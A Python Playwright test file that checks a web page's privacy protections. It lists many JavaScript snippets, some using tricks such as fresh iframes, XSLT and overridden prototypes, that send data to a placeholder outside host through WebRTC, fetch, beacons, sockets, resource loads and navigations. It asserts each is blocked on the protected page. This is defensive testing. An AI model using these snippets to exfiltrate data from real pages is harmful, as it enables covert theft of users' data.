"""Ways out of a page, tried by code that runs in it, with somebody listening outside: see docs/privacy.md.

Each is tried on a free page first, where the listener has to hear it: then silence on the site's page says something.
"""

from __future__ import annotations

import re
import select
import shutil
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Worker

from tests.conftest import BROWSER_ARGUMENTS, BROWSERS
from tests.small_site import worker_of, write_small_site

LISTENS_S = 20.0  # on the free page, at most: as soon as something is heard, it is over
SILENCE_S = 0.3  # on the site's page, at least: it is given twice the time that the free one took

XHTML = "http://www.w3.org/1999/xhtml"
RTC = """((from) => { const line = new from.RTCPeerConnection({ iceServers: [{ urls: "stun:OUTSIDE" }] });
  line.createDataChannel("x"); return line.createOffer().then((offer) => line.setLocalDescription(offer)); })"""
FRAMED = (
    f"(frame) => {{ document.body.append(frame); return {RTC}(frame.contentWindow ?? frames[frames.length - 1]); }}"
)
LINK = """((rel, more = {}) => { const link = Object.assign(document.createElement("link"), { rel, href: "http://OUTSIDE/?photo",
  ...more }); document.head.append(link); })"""
ANCHOR = "((more) => Object.assign(document.createElement('a'), { href: 'http://OUTSIDE/?photo', ...more }).click())"
STYLE = """((rule) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(rule);
  document.adoptedStyleSheets = [sheet]; document.body.append("x"); })"""

# Scripts by the name that docs/privacy.md gives to the way.
WEBRTC = {
    "WebRTC": f"{RTC}(window)",
    "WebRTC by its old name": f"{RTC}({{ RTCPeerConnection: webkitRTCPeerConnection }})",
    "WebRTC in a frame": f"({FRAMED})(document.createElement('iframe'))",
    "WebRTC in a frame by namespace": f"({FRAMED})(document.createElementNS('{XHTML}', 'x:iframe'))",
    "WebRTC in a frame of another document": f"""({FRAMED})(
      document.implementation.createHTMLDocument().createElement("iframe"))""",
    "WebRTC in an old frame": f"({FRAMED})(document.createElement('frame'))",
    "WebRTC in an object": f"({FRAMED})(Object.assign(document.createElement('object'), {{ data: 'about:blank' }}))",
    "WebRTC in an element of its own": f"""({FRAMED})((() => {{ class Own extends HTMLIFrameElement {{}}
      customElements.define("x-own", Own, {{ extends: "iframe" }}); return new Own(); }})())""",
    "WebRTC in a frame from markup": f"""document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"),
      {RTC}(frames[0])""",
    "WebRTC in a frame parsed": f"""({FRAMED})(document.adoptNode(
      new DOMParser().parseFromString("<iframe></iframe>", "text/html").querySelector("iframe")))""",
    "WebRTC in a frame of a fragment": f"""({FRAMED})(
      document.createRange().createContextualFragment("<iframe></iframe>").firstChild)""",
    "WebRTC in a frame by editing": f"""document.body.contentEditable = true, document.body.focus(),
      document.execCommand("insertHTML", false, "<iframe></iframe>"), {RTC}(frames[0])""",
    "WebRTC in a frame from another page": f"""(async () => {{
      const ask = new XMLHttpRequest(); ask.responseType = "document";
      ask.open("GET", "framed.html"); ask.send(); await new Promise((done) => {{ ask.onload = done; }});
      return ({FRAMED})(document.adoptNode(ask.responseXML.querySelector("iframe"))); }})()""",
    "WebRTC in a frame by XSLT": f"""(() => {{ const xsl = "http://www.w3.org/1999/XSL/Transform";
      const sheet = document.implementation.createDocument(xsl, "xsl:stylesheet"), root = sheet.documentElement;
      const template = sheet.createElementNS(xsl, "xsl:template"), element = sheet.createElementNS(xsl, "xsl:element");
      root.setAttribute("version", "1.0"); root.append(template); template.setAttribute("match", "/");
      template.append(element); element.setAttribute("name", "iframe");
      element.setAttribute("namespace", "{XHTML}");
      const processor = new XSLTProcessor(); processor.importStylesheet(sheet);
      document.body.append(processor.transformToFragment(sheet, document));
      return {RTC}(frames[0]); }})()""",
    "WebRTC in a window": f"{RTC}(window.open(''))",
    "WebRTC in a window by the document": f"{RTC}(document.open('', 'other', ''))",
    "WebRTC in a window above others": f"documentPictureInPicture.requestWindow().then((above) => {RTC}(above))",
    "WebRTC with changed tools": f"""(
      Array.prototype.includes = RegExp.prototype.exec = RegExp.prototype.test = () => null,
      Object.defineProperty(HTMLIFrameElement, Symbol.hasInstance, {{ value: () => false }}),
      ({FRAMED})(document.createElement("iframe")))""",
}
CONNECTIONS = {
    "fetch": "fetch('http://OUTSIDE/?photo', { mode: 'no-cors' })",
    "fetch that outlives the page": "fetch('http://OUTSIDE/?photo', { mode: 'no-cors', keepalive: true })",
    "fetchLater": "fetchLater('https://OUTSIDE/?photo', { activateAfter: 0 })",
    "XMLHttpRequest": """(() => { const ask = new XMLHttpRequest();
      ask.open("GET", "http://OUTSIDE/?photo"); ask.send(); })()""",
    "beacon": "navigator.sendBeacon('http://OUTSIDE/', 'photo')",
    "EventSource": "new EventSource('http://OUTSIDE/?photo')",
    "WebSocket": "new WebSocket('ws://OUTSIDE/?photo')",
    "WebSocketStream": "new WebSocketStream('ws://OUTSIDE/?photo').opened",
    "WebTransport": "new WebTransport('https://OUTSIDE/?photo').ready",
    "import": "import('http://OUTSIDE/photo.js')",
    "a worklet": "CSS.paintWorklet.addModule('http://OUTSIDE/photo.js')",
    "ping of a link": f"{ANCHOR}({{ href: '#', ping: 'http://OUTSIDE/?photo' }})",
    "payment": """new PaymentRequest([{ supportedMethods: "https://OUTSIDE/photo" }],
      { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()""",
    "sign-in by a provider": """navigator.credentials.get({ identity: { providers: [
      { configURL: "http://OUTSIDE/photo.json", clientId: "x" }] } })""",
}
LOADS = {
    "image": "void (new Image().src = 'http://OUTSIDE/?photo')",
    "image of an SVG": """document.body.insertAdjacentElement("beforeend", (() => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", "http://OUTSIDE/?photo"); svg.append(image); return svg; })())""",
    "video": "document.createElement('video').src = 'http://OUTSIDE/?photo'",
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: 'http://OUTSIDE/?photo' }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://OUTSIDE/?photo' }))",
    "form": """(() => { const form = Object.assign(document.createElement("form"), { action: "http://OUTSIDE/?photo" });
      document.body.append(form); form.submit(); })()""",
    "stylesheet": f"{LINK}('stylesheet')",
    "picture of a style": "void (document.body.style.backgroundImage = \"url('http://OUTSIDE/?photo')\")",
    "picture of a stylesheet": f"{STYLE}(\"body {{ background: url('http://OUTSIDE/?photo') }}\")",
    "font of a stylesheet": f"""{STYLE}("@font-face {{ font-family: x; "
      + "src: url('http://OUTSIDE/?photo') }} * {{ font-family: x }}")""",
    "font": "new FontFace('x', \"url('http://OUTSIDE/?photo')\").load()",
    "preload": f"{LINK}('preload', {{ as: 'image' }})",
    "modulepreload": f"{LINK}('modulepreload')",
    "prefetch": f"{LINK}('prefetch')",
    "icon": f"{LINK}('icon')",
    "speculation rules": """document.head.append(Object.assign(document.createElement("script"), {
      type: "speculationrules",
      textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["http://OUTSIDE/?photo"] }] }) }))""",
}
NAVIGATIONS = {
    "location": "void (location = 'http://OUTSIDE/?photo')",
    "location, with changed tools": """(
      Event.prototype.preventDefault = () => {}, String.prototype.startsWith = () => true,
      Object.defineProperty(NavigateEvent.prototype, "userInitiated", { value: true }),
      void (location = "http://OUTSIDE/?photo"))""",
    "location.replace": "location.replace('http://OUTSIDE/?photo')",
    "navigation.navigate": "void navigation.navigate('http://OUTSIDE/?photo')",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'), "
    "{ httpEquiv: 'refresh', content: '0; url=http://OUTSIDE/?photo' }))",
    "click of a link by a script": f"{ANCHOR}({{}})",
    "download": f"{ANCHOR}({{ download: 'x' }})",
    "window.open": "window.open('http://OUTSIDE/?photo')",
}
PASSKEY = """navigator.credentials.create({ publicKey: { rp: { name: "x", id: "NAME" }, challenge: new Uint8Array(16),
  user: { id: new Uint8Array(4), name: "x", displayName: "x" },
  pubKeyCredParams: [{ type: "public-key", alg: -7 }] } })"""
CLOSED = {**WEBRTC, **CONNECTIONS, **LOADS, **NAVIGATIONS}


class Outside:
    """An address that belongs to somebody else, for TCP and UDP alike."""

    def __init__(self, tcp: socket.socket, udp: socket.socket) -> None:
        self._sockets = (tcp, udp)
        self.address = f"127.0.0.1:{tcp.getsockname()[1]}"

    def hears(self) -> bool:
        """Whether anything has come, be it only a connection."""
        return bool(select.select(self._sockets, [], [], 0)[0])


@contextmanager
def outside() -> Iterator[Outside]:
    with ExitStack() as opened:
        tcp = opened.enter_context(socket.create_server(("127.0.0.1", 0)))
        udp = opened.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(tcp.getsockname())
        yield Outside(tcp, udp)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A page as the site has it, and one without policy and scripts."""
    folder = write_small_site(tmp_path_factory.mktemp("site"))
    (folder / "free.html").write_text(
        "<!doctype html><meta charset='utf-8'><title>free</title><body>", encoding="utf-8"
    )
    (folder / "framed.html").write_text("<!doctype html><title>framed</title><iframe></iframe>", encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def http(site: Path, serve: Callable[[Path], str]) -> str:
    return serve(site).replace("127.0.0.1", "localhost")  # a name, as credentials ask for


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    yield context
    context.close()


def heard_after_s(place: Page | Worker, script: str, within_s: float, wait: Callable[[float], None]) -> float | None:
    """Try the way out, and give the seconds until something came, or None; wait: gives the browser milliseconds."""
    with outside() as listener:
        begins = time.monotonic()
        with suppress(Error):  # it is refused, or nobody answers, or the page is gone: what counts is what is heard
            place.evaluate(f"async () => {{ void ({script.replace('OUTSIDE', listener.address)}); }}")
        while not listener.hears():
            if time.monotonic() - begins > within_s:
                return None
            wait(20)
        return time.monotonic() - begins


@pytest.mark.parametrize("way", CLOSED)
def test_a_way_out_is_closed(context: BrowserContext, http: str, way: str) -> None:
    page = context.new_page()
    page.goto(f"{http}/free.html")
    took_s = heard_after_s(page, CLOSED[way], LISTENS_S, page.wait_for_timeout)
    assert took_s is not None, "the listener hears it where nothing is closed"
    page = context.new_page()
    page.goto(f"{http}/index.html")
    assert heard_after_s(page, CLOSED[way], max(SILENCE_S, 2 * took_s), page.wait_for_timeout) is None


@pytest.mark.parametrize("way", ["WebRTC", "WebTransport", "WebSocketStream", "fetch", "beacon", "import"])
def test_a_way_out_is_closed_in_the_worker(context: BrowserContext, http: str, way: str) -> None:
    page = context.new_page()
    page.goto(f"{http}/index.html")
    page.evaluate("load()")
    script = CLOSED[way].replace("window", "globalThis").replace("navigator.sendBeacon", "navigator.sendBeacon?.")
    assert heard_after_s(worker_of(page), script, 1, page.wait_for_timeout) is None


def test_no_name_is_looked_up_for_a_passkey(browser: Browser, http: str, tmp_path: Path) -> None:
    """A browser asks the site that a passkey is for whether others may have it: the browser's own log shows that."""
    log = tmp_path / "net.json"
    installed = next(filter(None, map(shutil.which, BROWSERS)), None)
    logged = browser.browser_type.launch(executable_path=installed, args=[*BROWSER_ARGUMENTS, f"--log-net-log={log}"])
    for name in ("free", "index"):
        page = logged.new_page()
        page.goto(f"{http}/{name}.html")
        with suppress(Error):
            page.evaluate(PASSKEY.replace("NAME", f"photo-{name}.example"))
    logged.close()
    looked_up = set(re.findall(r"photo-\w+\.example", log.read_text(encoding="utf-8")))
    assert looked_up == {"photo-free.example"}
